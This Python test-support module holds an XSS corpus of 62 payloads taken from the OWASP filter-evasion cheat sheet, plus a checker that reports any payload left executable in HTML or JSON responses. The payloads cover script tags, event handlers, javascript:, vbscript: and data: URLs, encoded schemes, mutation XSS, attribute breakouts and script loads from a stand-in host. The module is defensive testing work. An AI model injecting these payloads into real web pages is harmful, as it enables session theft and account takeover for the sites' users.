"""An XSS corpus from the OWASP XSS Filter Evasion Cheat Sheet, and the one check of what a
response makes of it (issue 15, "bad input and attacks").

Every vector carries its own marker, ``XSS-NN``, inside the code it would run (``alert('XSS-07')``,
``data:`` payloads in base64 carry it in clear in a neighbouring attribute or text), so a check
that finds a marker in an executable place names the vector that survived.

:func:`executable_places` is the rule: in parsed HTML (the stdlib's tolerant ``html.parser``
through BeautifulSoup, as a browser tolerates broken markup), an element carrying a marker in
any of its attributes (a handler split by odd punctuation still counts) must not have

- an event-handler attribute (``on*``) or a ``style`` attribute;
- a URL attribute (``href``, ``src``, ``action``, ``formaction``, ``data``, ``xlink:href``, …)
  that starts with ``javascript:``, ``vbscript:`` or ``data:`` (whitespace, control characters
  and quoting backticks dropped first, as browsers do);
- be an executable ``<script>`` (no ``type`` or a JavaScript one; an ``application/json`` data
  island is data, and a ``</script>`` breaking out of it would show as a new script element),
  or an ``<iframe>``/``<frame>``/``<object>``/``<embed>``/``<applet>``/``<base>``/``<svg>``/
  ``<math>``, elements a page never makes of typed text;

and no executable script's text or ``<style>``'s text may hold a marker, no ``<noscript>`` may hide
markup in an attribute (mutation XSS), and no ``<iframe srcdoc>``, ``<meta http-equiv=refresh>``
or ``<base>`` may appear at all. With ``strict`` (HTML the platform made from rich text, where
nothing of the kind is expected) every element counts as marked.

Text that shows a vector as text (``&lt;script&gt;alert('XSS-01')…``) is what should happen and
is never reported.
"""

import json
import re

from bs4 import BeautifulSoup

MARKER = re.compile(r"XSS-\d\d")


def _m(n: int) -> str:
    return f"XSS-{n:02d}"


def _js(n: int) -> str:
    return f"alert('{_m(n)}')"


# Base64 of ``<script>alert('XSS-NN')</script>`` for the data: URL vectors.
def _b64_script(n: int) -> str:
    import base64

    return base64.b64encode(f"<script>{_js(n)}</script>".encode()).decode()


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _hex_entities(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" for c in text)


VECTORS: list[str] = [
    # 01–08: script tags, plain and broken
    f"<script>{_js(1)}</script>",
    f"<SCRIPT SRC=https://xss.example/xss.js?{_m(2)}></SCRIPT>",
    f'<IMG """><SCRIPT>{_js(3)}</SCRIPT>">',
    f'<SCRIPT/XSS SRC="https://xss.example/xss.js?{_m(4)}"></SCRIPT>',
    f"<<SCRIPT>{_js(5)};//\\<</SCRIPT>",
    f"<SCRIPT SRC=https://xss.example/xss.js?{_m(6)}?< B >",
    f"</TITLE><SCRIPT>{_js(7)}</SCRIPT>",
    f'"><script>{_js(8)}</script>',
    # 09–20: event handlers
    f'"><img src=x onerror={_js(9)}>',
    f'<IMG SRC=/ onerror="{_js(10)}"></img>',
    f"<BODY ONLOAD={_js(11)}>",
    f"<svg/onload={_js(12)}>",
    f"<svg><animate onbegin={_js(13)} attributeName=x dur=1s>",
    f"<input autofocus onfocus={_js(14)}>",
    f"<details open ontoggle={_js(15)}>",
    f'<video><source onerror="{_js(16)}">',
    f"<marquee onstart={_js(17)}>XSS</marquee>",
    f'<a href="#" onmouseover="{_js(18)}">悬停</a>',
    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={_js(19)}>",
    f"'><div onpointerenter={_js(20)}>x</div>",
    # 21–32: javascript:, vbscript:, data: URLs and their encodings
    f'<a href="javascript:{_js(21)}">链接</a>',
    f'<a href="JaVaScRiPt:{_js(22)}">链接</a>',
    f'<a href="jav&#x09;ascript:{_js(23)}">链接</a>',
    f'<a href="&#14;  javascript:{_js(24)}">链接</a>',
    f'<a href="{_entities("javascript:")}{_js(25)}">链接</a>',
    f'<a href="{_hex_entities("javascript:")}{_js(26)}">链接</a>',
    f"<a href=\"vbscript:msgbox('{_m(27)}')\">链接</a>",
    f'<a href="data:text/html;base64,{_b64_script(28)}" title="{_m(28)}">链接</a>',
    f'<IMG SRC="javascript:{_js(29)};">',
    f"<IMG SRC=`javascript:{_js(30)}`>",
    f'<iframe src="javascript:{_js(31)}"></iframe>',
    f'<object data="data:text/html;base64,{_b64_script(32)}" name="{_m(32)}"></object>',
    # 33–40: SVG, MathML, embedded documents
    f'<svg><script xlink:href="data:,{_js(33)}"></script></svg>',
    f'<svg><a xlink:href="javascript:{_js(34)}"><text x="20" y="20">XSS</text></a></svg>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{_js(35)}">点</maction></math>',
    f'<math href="javascript:{_js(36)}">CLICKME</math>',
    f'<iframe srcdoc="&lt;script&gt;{_js(37)}&lt;/script&gt;"></iframe>',
    f'<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" type="image/svg+xml"'
    f' title="{_m(38)}">',
    f'<embed embedtype="media" url="javascript:{_js(39)}"/>',
    f'<FRAMESET><FRAME SRC="javascript:{_js(40)};"></FRAMESET>',
    # 41–46: style
    f'<DIV STYLE="background-image: url(javascript:{_js(41)})">x</DIV>',
    f'<IMG STYLE="xss:expr/*XSS*/ession({_js(42)})">',
    f"<STYLE>@import'https://xss.example/xss.css?{_m(43)}';</STYLE>",
    f'<STYLE>li {{list-style-image: url("javascript:{_js(44)}");}}</STYLE><UL><LI>XSS</br>',
    f'<LINK REL="stylesheet" HREF="javascript:{_js(45)};">',
    f'<XSS STYLE="behavior: url(xss.htc?{_m(46)});">',
    # 47–52: meta, base, forms
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:{_js(47)};">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{_b64_script(48)}"'
    f' name="{_m(48)}">',
    f'<BASE HREF="javascript:{_js(49)};//">',
    f'<form action="javascript:{_js(50)}"><input type="submit"></form>',
    f'<form><button formaction="javascript:{_js(51)}">提交</button></form>',
    f'<isindex action="javascript:{_js(52)}" type=image>',
    # 53–60: tricks against filters
    f"<scr<script>ipt>{_js(53)}</scr</script>ipt>",
    f'<!--<img src="--><img src=x onerror={_js(54)}//">',
    f'<noscript><p title="</noscript><img src=x onerror={_js(55)}>"></noscript>',
    f"<template><img src=x onerror={_js(56)}></template>",
    f"<textarea></textarea><img src=x onerror={_js(57)}>",
    f"<title><img src=x onerror={_js(58)}></title>",
    f"\\u003cscript\\u003e{_js(59)}\\u003c/script\\u003e",
    f"%3Cscript%3E{_js(60)}%3C%2Fscript%3E",
    # 61–62: attribute breakouts for values written into attributes and JavaScript strings
    f"' onmouseover='{_js(61)}' x='",
    f"';{_js(62)}//\\';{_js(62)}//\";{_js(62)}//</script><script>{_js(62)}</script>",
]

# Vectors that are plain text to an HTML parser: they run only where a page writes them into a
# script, a URL or a single-quoted attribute, or where a filter removes half of them. The check
# finds them only in those contexts; every other vector, as it is, is found.
TEXT_ONLY = ("XSS-53", "XSS-59", "XSS-60", "XSS-61")

assert len(VECTORS) == len({MARKER.search(v).group() for v in VECTORS}), "markers are unique"
assert all(MARKER.search(v) for v in VECTORS)

ALL = "\n".join(VECTORS)


def marker_of(vector: str) -> str:
    return MARKER.search(vector).group()


def fitting(max_length: int | None, start: int = 0) -> str:
    """As many vectors as fit in ``max_length`` characters, starting at vector ``start``
    (cycling), joined by spaces: many vectors in one field."""
    if not max_length:
        return " ".join(VECTORS[start:] + VECTORS[:start])
    chosen: list[str] = []
    length = 0
    for offset in range(len(VECTORS)):
        vector = VECTORS[(start + offset) % len(VECTORS)]
        extra = len(vector) + (1 if chosen else 0)
        if length + extra <= max_length:
            chosen.append(vector)
            length += extra
    return " ".join(chosen)


# --- The check --------------------------------------------------------------------------------

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "poster",
    "lowsrc",
    "dynsrc",
    "srcset",
    "url",
    "content",
}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
JS_TYPES = {
    "",
    "text/javascript",
    "application/javascript",
    "module",
    "text/ecmascript",
    "application/ecmascript",
}
# Elements a page never makes of typed text: one carrying a marker is a vector's. (``meta``,
# ``link`` and ``form`` legitimately carry typed text in attributes, a description or a label;
# their URLs and refresh are checked above.)
FOREIGN_ELEMENTS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "svg",
    "math",
    "isindex",
}
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


def _scheme_of(value: str) -> str:
    # Old browsers took backticks for quotes (``<IMG SRC=`javascript:…`>``).
    return _INVISIBLE.sub("", value).strip("`'\"").lower()


def _dangerous_url(value: str) -> bool:
    folded = _scheme_of(value)
    if folded.startswith(DANGEROUS_SCHEMES):
        return True
    # ``<meta content="0;url=javascript:…">``
    match = re.search(r"url=(.*)$", folded)
    return bool(match and match.group(1).startswith(DANGEROUS_SCHEMES))


def _markup_in_attributes(element) -> bool:
    return any(
        "<" in _value(raw) and MARKER.search(_value(raw))
        for child in element.find_all(True)
        for raw in child.attrs.values()
    )


def _value(value) -> str:
    return " ".join(value) if isinstance(value, list) else str(value)


def executable_places(html: str, *, strict: bool = False) -> list[str]:
    """Every place in ``html`` where a vector would run, each described with its marker.

    ``strict``: also report dangerous constructs with no marker (for HTML produced from rich
    text, which must hold none at all).
    """
    soup = BeautifulSoup(html, "html.parser")
    found: list[str] = []
    for element in soup.find_all(True):
        name = element.name.lower()
        attributes = {key.lower(): _value(raw) for key, raw in element.attrs.items()}
        # An element is marked when any of its attributes carries a marker: a handler split
        # by odd punctuation (``<BODY onload!#$%&()…=alert()>``) still counts as the vector's.
        marked = strict or any(MARKER.search(value) for value in attributes.values())
        for attribute, value in attributes.items():
            if attribute.startswith("on") and marked:
                found.append(f"<{name} {attribute}=…> {value[:80]!r}")
            elif attribute == "style" and marked:
                found.append(f"<{name} style=…> {value[:80]!r}")
            elif attribute == "content" and attributes.get("http-equiv", "").lower() != "refresh":
                continue  # a description or a keyword list: text, not a URL
            elif (
                attribute in URL_ATTRIBUTES
                and _dangerous_url(value)
                and (marked or name in {"meta", "base", "iframe", "object", "embed"})
            ):
                found.append(f"<{name} {attribute}={value[:80]!r}>")
            elif attribute == "srcdoc":
                found.append(f"<{name} srcdoc=…> {value[:80]!r}")
        if name == "script":
            kind = attributes.get("type", "").strip().lower()
            text = element.get_text()
            if kind in JS_TYPES and (marked or MARKER.search(text)):
                found.append(f"<script {attributes}> {text[:80]!r}")
        elif name == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            found.append(f"<meta http-equiv=refresh content={attributes.get('content')!r}>")
        elif name == "base":
            found.append(f"<base href={attributes.get('href')!r}>")
        elif name in FOREIGN_ELEMENTS and marked:
            found.append(f"<{name}> {str(element)[:80]!r}")
        elif name == "style" and MARKER.search(element.get_text()):
            found.append(f"<style> {element.get_text()[:80]!r}")
        elif name == "noscript" and _markup_in_attributes(element):
            # A browser reads a noscript's content as text: markup hidden in an attribute
            # inside it is markup again once the noscript ends (mutation XSS).
            found.append(f"<noscript> {str(element)[:80]!r}")
    return found


def assert_inert_html(html: str, where: str, *, strict: bool = False) -> None:
    places = executable_places(html, strict=strict)
    assert not places, f"{where}: vectors that would run:\n" + "\n".join(places)


def rich_text_fields_of(data, names: set[str], path: str = "") -> list[tuple[str, str]]:
    """Every string under a key in ``names`` anywhere in a JSON answer, with its path."""
    found: list[tuple[str, str]] = []
    if isinstance(data, dict):
        for key, value in data.items():
            here = f"{path}.{key}"
            if key in names and isinstance(value, str):
                found.append((here, value))
            else:
                found.extend(rich_text_fields_of(value, names, here))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            found.extend(rich_text_fields_of(value, names, f"{path}[{index}]"))
    return found


def strings_of(data) -> list[str]:
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [s for value in data.values() for s in strings_of(value)]
    if isinstance(data, list):
        return [s for value in data for s in strings_of(value)]
    return []


def assert_json_inert(response, where: str, rich_text_keys: set[str]) -> dict:
    """A JSON answer: served as JSON (never sniffed as HTML), its rich-text keys inert HTML
    (strictly), everything else plain strings, which JSON carries as text."""
    assert response["Content-Type"].startswith("application/json"), (
        where,
        response["Content-Type"],
    )
    assert response.get("X-Content-Type-Options") == "nosniff", where
    data = json.loads(response.content)
    for path, html in rich_text_fields_of(data, rich_text_keys):
        assert_inert_html(html, f"{where} {path}", strict=True)
    return data
